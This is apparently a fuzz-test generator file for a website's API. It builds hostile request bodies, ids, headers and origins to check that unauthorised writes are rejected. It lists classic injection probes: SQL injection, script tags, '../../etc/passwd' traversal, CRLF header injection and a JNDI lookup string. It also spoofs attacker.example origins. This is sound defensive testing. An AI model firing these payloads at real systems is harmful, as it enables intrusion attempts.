import fc from 'fast-check';
import { createUnsubscribeToken } from '../../src/server/mail/unsubscribeToken.ts';
import { cloudForestBiome, mossGuideResource, sealedJarPost } from './catalogueAdminFixtures.ts';
import { documentForm, smallPdf } from './documentFixtures.ts';
import { ghostShrimp } from '../support/speciesFixtures.ts';

/**
 * The generators of hostileRequests.fuzz.test.ts: hostile texts, bodies, ids, headers and targets
 * over every public write, every admin write and the reads that take an id in their path. Valid
 * bodies with one field spoilt come often, so that most requests reach the checks behind routing.
 */
export const fuzzUnsubscribeSecret = 'fuzz-test-unsubscribe-secret-0123456789';

/** The Host the site's pages are served under in the test; its origin is the same-origin Origin. */
export const siteHost = 'localhost:4321';
export const siteOrigin = `http://${siteHost}`;

/** Percent-encodes any text, lone surrogates included (as U+FFFD), as a client must to send it in a URL. */
const encode = (text: string) => encodeURIComponent(text.toWellFormed());

const hostileTexts = [
  "' or 1=1 --",
  '"; drop table subscribers; --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '\u202Eevil\u202C',
  '\u0000',
  '\r\nSet-Cookie: x=1',
  '../../etc/passwd',
  '%00',
  '%2e%2e%2f',
  '{{7*7}}',
  '${jndi:ldap://x.example/a}',
  '\ud800',
  '𝕏🌱',
  'a'.repeat(20_000),
  '',
  ' ',
];
export const hostileText = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.string({ maxLength: 300 }),
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc.lorem({ maxCount: 5 }),
);
const emailLike = fc.oneof(
  fc.emailAddress(),
  fc.constantFrom(
    'ana@example.org',
    'ANA@EXAMPLE.ORG ',
    'a@-x.com',
    'ana\u202E@example.org',
    'x@y',
    '@',
    'ana@example..org',
  ),
  hostileText,
);
const anyValue = fc.oneof(
  hostileText,
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.array(hostileText, { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), hostileText, { maxKeys: 3 }),
);
const honeypot = fc.option(fc.oneof(fc.constant(''), fc.constant(' '), hostileText), { nil: undefined });
const mediaUrl = fc.oneof(
  fc.constant('/media/0123456789abcdef0123456789abcdef.webp'),
  fc.stringMatching(/^\/media\/[0-9a-f]{32}\.webp$/),
  hostileText,
);

/** `valid` with one field replaced, added or taken away: mostly still valid, often just not. */
function oneFieldSpoilt(
  valid: Record<string, unknown>,
  extraKeys: string[] = [],
): fc.Arbitrary<Record<string, unknown>> {
  return fc
    .tuple(
      fc.constantFrom(...Object.keys(valid), ...extraKeys, 'id', '__proto__'),
      fc.option(anyValue, { nil: undefined, freq: 2 }),
      fc.boolean(),
    )
    .map(([key, value, keepValid]) => (keepValid ? { ...valid } : { ...valid, [key]: value }));
}

const subscriptionFields = fc.record({ email: emailLike, website: honeypot }, { requiredKeys: ['email'] });
const contactFields = fc.record(
  { name: hostileText, email: emailLike, subject: hostileText, message: hostileText, website: honeypot },
  { requiredKeys: ['name', 'email', 'subject', 'message'] },
);
const validContact = fc.record({
  name: fc.lorem({ maxCount: 2 }),
  email: fc.emailAddress(),
  subject: fc.lorem({ maxCount: 4 }),
  message: fc.lorem({ maxCount: 20 }),
});

/**
 * A request body: its bytes (a form is encoded as multipart when sent), and the Content-Type a client
 * would send with it (undefined: none; a multipart form's names its boundary).
 */
export type FuzzBody = { bytes: string | Uint8Array | FormData; contentType: string | undefined };

const jsonOf = (value: fc.Arbitrary<unknown>) =>
  value.map((v): FuzzBody => ({ bytes: JSON.stringify(v) ?? '', contentType: 'application/json' }));
const formOf = (value: fc.Arbitrary<Record<string, unknown>>) =>
  value.map((fields): FuzzBody => ({
    bytes: new URLSearchParams(
      Object.entries(fields).flatMap(([key, v]) => (v === undefined ? [] : [[key, String(v).toWellFormed()]])),
    ).toString(),
    contentType: 'application/x-www-form-urlencoded',
  }));

/** A tiny real PNG (1×1, green). */
const onePixelPng = Uint8Array.from(
  atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='),
  (char) => char.charCodeAt(0),
);

/** Upload forms: right file in the right field, or the wrong file, field, name or bytes. */
const uploadForm = fc
  .record({
    field: fc.constantFrom('image', 'file', 'image', 'file', 'photo', ''),
    bytes: fc.oneof(
      { weight: 3, arbitrary: fc.constant(onePixelPng) },
      { weight: 3, arbitrary: fc.constant(smallPdf) },
      { weight: 1, arbitrary: fc.uint8Array({ maxLength: 2000 }) },
      { weight: 1, arbitrary: fc.constant(onePixelPng.slice(0, 20)) },
    ),
    fileName: fc.oneof(fc.constantFrom('pixel.png', 'guide.pdf', 'x.exe', '../../etc/passwd', ''), hostileText),
    alt: fc.option(hostileText, { nil: undefined }),
  })
  .map(({ field, bytes, fileName, alt }): FuzzBody => {
    const form = field === 'file' ? documentForm(bytes, fileName) : new FormData();
    if (field !== 'file') form.append(field || 'x', new File([new Uint8Array(bytes)], fileName, { type: 'image/png' }));
    if (alt !== undefined) form.append('alt', alt.toWellFormed());
    return { bytes: form, contentType: undefined };
  });

/** Bodies of no particular route: broken JSON, stray bytes, other encodings. */
const strayBody = fc.oneof(
  jsonOf(fc.oneof(anyValue, fc.jsonValue())),
  fc.uint8Array({ maxLength: 3000 }).map((bytes): FuzzBody => ({ bytes, contentType: 'application/json' })),
  fc
    .constantFrom('List-Unsubscribe=One-Click', '{', '[]', 'null', '{"email":"a@b.co",', '\u0000'.repeat(100))
    .map((bytes): FuzzBody => ({ bytes, contentType: 'application/json' })),
  formOf(fc.dictionary(fc.string({ maxLength: 8 }), hostileText, { maxKeys: 3 })),
);

const idSegment = fc.oneof(
  { weight: 4, arbitrary: fc.integer({ min: 1, max: 40 }).map(String) },
  { weight: 2, arbitrary: fc.integer({ min: -3, max: 400 }).map(String) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      '0',
      '00',
      '1e3',
      '0x10',
      '1.5',
      '-1',
      '%201',
      '99999999999999999999',
      '2147483648',
      'NaN',
      '..',
      '%2e%2e',
      '%00',
      'abc',
      '1;drop',
      '1%20or%201=1',
      '',
    ),
  },
  { weight: 1, arbitrary: hostileText.map(encode) },
);
const tokenValue = fc.oneof(
  fc.integer({ min: 1, max: 200 }).map((id) => createUnsubscribeToken(Buffer.from(fuzzUnsubscribeSecret), id)),
  fc.integer({ min: 1, max: 200 }).map((id) => `${id}.${'A'.repeat(22)}`),
  hostileText,
);

/**
 * Where a request goes, the methods its route takes (tried most), and bodies of its own shape;
 * `adminOnly` for a route only a signed-in administrator may write to ('writes': its GET may be
 * public, as `/api/species/3` is) or even read ('all').
 */
export type FuzzTarget = {
  path: string;
  methods: string[];
  ownBody?: fc.Arbitrary<FuzzBody>;
  adminOnly?: 'writes' | 'all';
};

const target = (path: string, methods: string[], ownBody?: fc.Arbitrary<FuzzBody>): FuzzTarget => ({
  path,
  methods,
  ...(ownBody ? { ownBody } : {}),
});

const publicWrite: fc.Arbitrary<FuzzTarget> = fc.oneof(
  fc
    .constantFrom('', '?form=home', '?form=coming-soon', '?form=%00')
    .map((query) =>
      target(
        `/api/newsletter/subscribe${query}`,
        ['POST'],
        fc.oneof(jsonOf(subscriptionFields), formOf(subscriptionFields)),
      ),
    ),
  fc.constant(
    target(
      '/api/contact',
      ['POST'],
      fc.oneof(jsonOf(contactFields), formOf(contactFields), jsonOf(validContact), formOf(validContact)),
    ),
  ),
  fc.constant(target('/api/auth/password', ['POST'], jsonOf(fc.record({ password: anyValue })))),
  tokenValue.map((token) => target(`/api/newsletter/unsubscribe?token=${encode(token)}`, ['GET', 'POST'])),
  tokenValue.map((token) => target(`/newsletter/unsubscribe?token=${encode(token)}`, ['POST'])),
  // Resend's webhook: events of its shape, signed by nobody who knows the secret.
  fc.constant(
    target(
      '/api/webhooks/resend',
      ['POST'],
      jsonOf(
        fc.record({
          type: fc.oneof(fc.constantFrom('email.bounced', 'email.complained', 'email.delivered'), hostileText),
          data: fc.record({ to: fc.array(emailLike, { maxLength: 3 }), bounce: fc.record({ type: anyValue }) }),
        }),
      ),
    ),
  ),
);

const speciesBody = jsonOf(oneFieldSpoilt(ghostShrimp, ['photos', 'photoAlts', 'updateNotes']));
const catalogueWrites = (collection: string, valid: Record<string, unknown>) => {
  const body = jsonOf(oneFieldSpoilt(valid));
  return fc.oneof(
    fc.constant(target(`/api/${collection}`, ['POST'], body)),
    idSegment.map((id) => target(`/api/${collection}/${id}`, ['PATCH', 'DELETE'], body)),
  );
};
const adminWrite: fc.Arbitrary<FuzzTarget> = fc
  .oneof(
    catalogueWrites('species', ghostShrimp).map((t) => ({ ...t, ownBody: speciesBody })),
    idSegment.map((id) =>
      target(
        `/api/species/${id}/photo`,
        ['POST'],
        jsonOf(fc.record({ photoUrl: mediaUrl, alt: hostileText }, { requiredKeys: ['photoUrl'] })),
      ),
    ),
    idSegment.map((id) =>
      target(
        `/api/species/${id}/update-note`,
        ['POST'],
        jsonOf(
          fc.record(
            { note: fc.oneof(fc.lorem({ maxCount: 8 }), hostileText), photos: fc.array(mediaUrl, { maxLength: 5 }) },
            { requiredKeys: ['note'] },
          ),
        ),
      ),
    ),
    catalogueWrites('biomes', cloudForestBiome),
    catalogueWrites('resources', mossGuideResource),
    catalogueWrites('posts', sealedJarPost),
    idSegment.map((id) =>
      target(
        `/api/admin/messages/${id}`,
        ['PATCH', 'DELETE'],
        jsonOf(fc.oneof(fc.record({ isRead: fc.boolean() }), fc.record({ isRead: anyValue }))),
      ),
    ),
    idSegment.map((id) =>
      target(
        `/api/subscribers/${id}`,
        ['PATCH', 'DELETE'],
        jsonOf(fc.oneof(fc.constant({ isActive: false }), fc.record({ isActive: anyValue }))),
      ),
    ),
    idSegment.map((id) => target(`/api/admin/history/${id}/restore`, ['POST'])),
    fc.constantFrom('/api/upload', '/api/upload/document').map((path) => target(path, ['POST'], uploadForm)),
  )
  .map((to): FuzzTarget => ({ ...to, adminOnly: 'writes' }));

const idRead: fc.Arbitrary<FuzzTarget> = fc
  .oneof(
    idSegment.map((id) => `/api/biomes/${id}`),
    idSegment.map((id) => `/api/species/${id}`),
    idSegment.map((id) => `/api/resources/type/${id}`),
    idSegment.map((id) => `/media/${id}`),
  )
  .map((path) => target(path, ['GET']));
const adminRead: fc.Arbitrary<FuzzTarget> = fc
  .constantFrom('/api/admin/species', '/api/subscribers.csv', '/api/admin/history', '/api/admin/messages/counts')
  .map((path) => ({ ...target(path, ['GET']), adminOnly: 'all' }));

/** Header values as HTTP lets them through (no CR, LF or NUL; Latin-1), hostile otherwise. */
const headerValue = fc.string({ maxLength: 200 }).map((value) => value.replace(/[^\x20-\x7e\x80-\xff\t]/g, ''));

/** Mostly the body's own type, sometimes another or a mangled one. */
const contentTypeOverride = fc.option(
  fc.oneof(
    fc.constantFrom(
      'application/json; charset=utf-8',
      'APPLICATION/JSON',
      'application/json;;;',
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data',
      'multipart/form-data; boundary=x',
      'image/png',
      '',
    ),
    headerValue,
  ),
  { nil: undefined, freq: 6 },
);

/** Mostly the site's own host; else a foreign, a malformed or a missing one. */
const host = fc.oneof(
  { weight: 12, arbitrary: fc.constant(siteHost) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '127.0.0.1:4321',
      'closedbiomes.example',
      'attacker.example',
      'exa mple',
      '',
      'localhost:99999',
      '[::1',
      'a%zz',
      'a<b',
      'localhost:4321.attacker.example',
    ),
  },
  { weight: 1, arbitrary: headerValue },
);

export const servedMethods = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'];

export const hostileRequest = fc
  .oneof(
    { weight: 3, arbitrary: publicWrite },
    { weight: 6, arbitrary: adminWrite },
    { weight: 1, arbitrary: fc.oneof(idRead, adminRead) },
  )
  .chain((to) =>
    fc.record({
      path: fc.constant(to.path),
      adminOnly: fc.constant(to.adminOnly),
      body: fc.option(to.ownBody ? fc.oneof({ weight: 4, arbitrary: to.ownBody }, strayBody) : strayBody, {
        nil: undefined,
        freq: 8,
      }),
      contentTypeOverride,
      // Mostly the methods the routes take, so that most requests get past routing to the checks.
      method: fc.oneof(
        { weight: 12, arbitrary: fc.constantFrom(...to.methods) },
        { weight: 2, arbitrary: fc.constantFrom(...servedMethods) },
        { weight: 1, arbitrary: fc.constantFrom('TRACE', 'PROPFIND', 'MKCOL') },
      ),
      host,
      origin: fc.option(
        fc.oneof(
          { weight: 16, arbitrary: fc.constant(siteOrigin) },
          {
            weight: 2,
            arbitrary: fc.constantFrom('https://attacker.example', 'null', 'http://localhost:4321.attacker.example'),
          },
          { weight: 1, arbitrary: headerValue },
        ),
        { nil: undefined, freq: 16 },
      ),
      session: fc.oneof(
        { weight: 8, arbitrary: fc.constant('valid' as const) },
        { weight: 1, arbitrary: fc.constantFrom('forged' as const, 'hostile' as const, 'none' as const) },
      ),
      extraHeaders: fc.array(
        fc.tuple(
          fc.constantFrom(
            'x-forwarded-for',
            'x-forwarded-proto',
            'if-none-match',
            'accept',
            'accept-encoding',
            'x-http-method-override',
            'range',
            'cookie',
            'authorization',
            'referer',
            'svix-id',
            'svix-timestamp',
            'svix-signature',
          ),
          headerValue,
        ),
        { maxLength: 2 },
      ),
    }),
  );
export type HostileRequest = typeof hostileRequest extends fc.Arbitrary<infer T> ? T : never;

/** The Origins a write may come from: the address it was sent to, or the site's own (SITE_URL). */
const sameSite = (request: HostileRequest, siteUrl: string) =>
  request.origin === `http://${request.host}` || request.origin === new URL(siteUrl).origin;

/**
 * Whether the server may carry a request out, judged from the request alone: an admin route's
 * write needs the live session and an Origin of this site, its read the session. The fuzz test
 * holds every other request to an answer outside 2xx, whatever the server thinks of it.
 */
export function mayBeCarriedOut(request: HostileRequest, siteUrl: string): boolean {
  const reads = request.method === 'GET' || request.method === 'HEAD';
  if (request.adminOnly === undefined || (reads && request.adminOnly === 'writes')) return true;
  return request.session === 'valid' && (reads || sameSite(request, siteUrl));
}
